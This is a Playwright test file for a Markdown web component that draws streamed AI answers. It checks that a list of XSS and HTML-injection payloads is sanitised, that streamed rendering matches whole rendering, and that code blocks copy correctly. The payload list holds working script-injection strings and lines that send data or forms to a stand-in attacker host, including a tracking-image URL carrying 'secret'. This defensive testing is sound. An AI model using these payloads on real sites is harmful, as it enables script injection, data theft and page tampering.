/** Answers that mean harm: whatever a model writes stays words. And how Markdown is drawn while it is written. */
import type { Page } from '@playwright/test'
import { expect, test } from './site'

declare global {
  /** Set by any script of the corpus that runs. */
  var harmed: string | undefined
}

/** Each tries to run a script, ask a server, submit something, change the page's looks or take a name in it. */
const HOSTILE = [
  '<script>harmed="script"</script>',
  '<img src=x onerror="harmed=1">',
  '<svg onload="harmed=1"><script>harmed=1</script></svg>',
  '<svg><animate onbegin="harmed=1" attributeName="x" dur="1s"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harmed=1&gt;">',
  '<iframe src="javascript:parent.harmed=1"></iframe><iframe srcdoc="<script>parent.harmed=1</script>"></iframe>',
  '<object data="https://evil.example/a"></object><embed src="https://evil.example/b">',
  '<form action="https://evil.example/"><input name=body><button>Go</button></form>',
  '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/a.css">',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<a id=chat name=body href="javascript:harmed=1" style="position:fixed;inset:0">x</a>',
  '<p style="position:fixed;inset:0;background:red" class="visually-hidden">over all</p>',
  '<details open ontoggle="harmed=1">x</details><video><source onerror="harmed=1"></video>',
  '<input autofocus onfocus="harmed=1"><select autofocus onfocus="harmed=1">',
  '<template><script>harmed=1</script></template><noscript><p title="</noscript><img src=x onerror=harmed=1>">',
  '[click](javascript:harmed=1) [click](JaVaScRiPt:harmed=1) [click](  javascript:harmed=1)',
  '[click](data:text/html,<script>harmed=1</script>) [click](vbscript:x) [click](blob:x)',
  '[a](https://example.org "x\\" onmouseover=\\"harmed=1")',
  '![a](https://evil.example/a.png) ![b](x "onerror=harmed=1") ![c](data:image/svg+xml,<svg onload=harmed=1>)',
  '![](https://evil.example/track?text=secret)',
  '<https://example.org/"onmouseover="harmed=1> <javascript:harmed=1>',
  '```"><img src=x onerror=harmed=1>\n</code></pre><script>harmed=1</script>\n```',
  '```html\n<img src=x onerror="harmed=1">\n<script>harmed=1</script>\n```',
  '`</code><img src=x onerror=harmed=1>`',
  '| <img src=x onerror=harmed=1> | b |\n|---|---|\n| <script>harmed=1</script> | [x](javascript:harmed=1) |',
  '1. <img src=x onerror=harmed=1>\n   - <script>harmed=1</script>\n> <iframe src=javascript:parent.harmed=1>',
  '$<img src=x onerror=harmed=1>$ and $$\n<script>harmed=1</script>\n$$',
  '&lt;img src=x onerror=harmed=1&gt; &#60;script&#62;harmed=1&#60;/script&#62;',
  '[x]: javascript:harmed=1\n\n[x] [y][x]',
  '<!--><img src=x onerror=harmed=1>--> <![CDATA[<img src=x onerror=harmed=1>]]> <?php x ?>',
  '<xss onpointerenter=harmed=1 style=animation-name:x>x</xss><style>@keyframes x{}</style>',
  'a\u0000<scr\u0000ipt>harmed=1</script> <\u017fcript>harmed=1</\u017fcript>',
]

/** Puts a `<minnow-markdown>` into the page. */
async function openMarkdown(page: Page): Promise<void> {
  await page.goto('/')
  await page.evaluate(async () => {
    await customElements.whenDefined('minnow-markdown')
    document.querySelector('main')!.replaceChildren(document.createElement('minnow-markdown'))
  })
}

/** Writes texts into it, in pieces of this length, and gives what is shown, as HTML. */
function write(page: Page, texts: readonly string[], step: number): Promise<string[]> {
  return page.evaluate(
    async ({ all, by }) => {
      const element = document.querySelector('minnow-markdown') as HTMLElement & {
        text: string
        streaming: boolean
        updateComplete: Promise<unknown>
      }
      const frame = (): Promise<unknown> => new Promise((resolve) => requestAnimationFrame(resolve))
      const shown: string[] = []
      for (const text of all) {
        element.text = ''
        element.streaming = true
        await element.updateComplete
        for (let end = by; end < text.length; end += by) {
          element.text = text.slice(0, end)
          await frame()
        }
        element.text = text
        element.streaming = false
        await element.updateComplete
        await frame()
        shown.push(element.shadowRoot!.querySelector('#text')!.innerHTML)
      }
      return shown
    },
    { all: texts, by: step },
  )
}

/** Waits until Markdown is drawn at all. */
async function expectDrawn(page: Page): Promise<void> {
  await expect.poll(async () => (await write(page, ['**a**'], 100))[0]).toContain('<strong>')
}

test('hostile answers run nothing, ask nobody, submit nothing and change no looks', async ({
  page,
  context,
}) => {
  const requests: string[] = []
  await openMarkdown(page)
  await expectDrawn(page)
  await page.waitForLoadState('networkidle')
  context.on('request', (request) => requests.push(request.url()))
  const violations: string[] = []
  await page.exposeFunction('noteViolation', (text: string) => violations.push(text))
  await page.evaluate(() => {
    const { noteViolation } = globalThis as unknown as { noteViolation(text: string): void }
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      noteViolation(`${violatedDirective} ${blockedURI}`),
    )
  })
  const looksOf = (): Promise<string> =>
    page.evaluate(() => {
      const header = document.querySelector('header')!
      const { display, color, backgroundColor } = getComputedStyle(header)
      const { x, width, height } = header.getBoundingClientRect()
      return JSON.stringify({ display, color, backgroundColor, x, width, height })
    })
  const looks = await looksOf()
  for (const step of [7, 1000]) {
    const shown = await write(page, [...HOSTILE, HOSTILE.join('\n\n')], step)
    for (const written of shown) {
      // Ours, of a table.
      const html = written.replaceAll(/ style="--columns: \d+;"/g, '')
      expect(html).not.toMatch(
        /<(?:script|img|svg|math|iframe|object|embed|form|input|style|link|base|meta|video|template)\b/i,
      )
      expect(html).not.toMatch(/<[^>]*\s(?:on\w+|style|id|name|srcdoc|src|action)\s*=/i)
      for (const [, address] of html.matchAll(/<a\b[^>]*href="([^"]*)"/g)) {
        expect(address).toMatch(/^(?:https?:\/\/|mailto:)/)
      }
    }
  }
  // All links, clicked without leaving the page.
  await page.evaluate(() => {
    const root = document.querySelector('minnow-markdown')!.shadowRoot!
    root.addEventListener('click', (event) => event.preventDefault())
    for (const link of root.querySelectorAll('a')) {
      if (link.target !== '_blank' || link.rel !== 'noopener noreferrer') throw new Error(link.outerHTML)
      link.click()
    }
  })
  expect(await page.evaluate(() => globalThis.harmed)).toBeUndefined()
  expect(await page.evaluate(() => document.forms.length)).toBe(1)
  expect(await looksOf()).toBe(looks)
  expect(violations).toEqual([])
  // Only what colours the code of the corpus.
  expect(requests.filter((url) => !/\/assets\/[\w-]+\.js$/.test(url))).toEqual([])
})

const WRITTEN = `# Title

A paragraph with **bold**, *italic*, \`code\` and a [link](https://example.org).

- one
- two **bold**

  more of two

1. first
2. second

| animal | legs |
|--------|-----:|
| cat    | 4    |
| bird   | 2    |

\`\`\`python
def double(x):
    return 2 * x
\`\`\`

> a quote

The end, with $x_1 + x_2$.`

test('what is written piece by piece looks as what is written at once, and moves nothing', async ({
  page,
}) => {
  await openMarkdown(page)
  await expectDrawn(page)
  const [whole] = await write(page, [WRITTEN], 10_000)
  await page.evaluate(() => {
    const shifts: number[] = []
    Object.assign(globalThis, { shifts })
    new PerformanceObserver((entries) => {
      for (const entry of entries.getEntries()) shifts.push((entry as unknown as { value: number }).value)
    }).observe({ type: 'layout-shift' })
  })
  const [grown] = await write(page, [WRITTEN], 3)
  const coloured = page.locator('minnow-markdown .hljs-keyword')
  await expect(coloured.first()).toHaveText('def')
  expect(grown?.replaceAll(/<span[^>]*>|<\/span>/g, '')).toBe(whole?.replaceAll(/<span[^>]*>|<\/span>/g, ''))
  expect(await page.evaluate(() => (globalThis as unknown as { shifts: number[] }).shifts)).toEqual([])
  await expect(page.getByRole('region', { name: 'Table' })).toBeVisible()
  await expect(page.getByRole('heading', { level: 3, name: 'Title' })).toBeVisible()
})

test('finished blocks stay the same elements while the last one grows; code is copied', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await openMarkdown(page)
  await expectDrawn(page)
  const kept = await page.evaluate(async (text) => {
    const element = document.querySelector('minnow-markdown') as HTMLElement & {
      text: string
      streaming: boolean
    }
    const root = element.shadowRoot!.querySelector('#text')!
    element.text = ''
    element.streaming = true
    const first = new Map<number, Element>()
    let replaced = 0
    for (let end = 5; end <= text.length; end += 5) {
      element.text = text.slice(0, end)
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
      // All but the last two: one may just have been finished.
      for (const [index, block] of [...root.children].slice(0, -2).entries()) {
        if (first.has(index) && first.get(index) !== block) replaced++
        first.set(index, block)
      }
    }
    return { blocks: first.size, replaced }
  }, WRITTEN)
  expect(kept.blocks).toBeGreaterThan(4)
  expect(kept.replaced).toBe(0)
  await page.getByRole('button', { name: 'Copy', exact: true }).click()
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('def double(x):\n    return 2 * x')
})
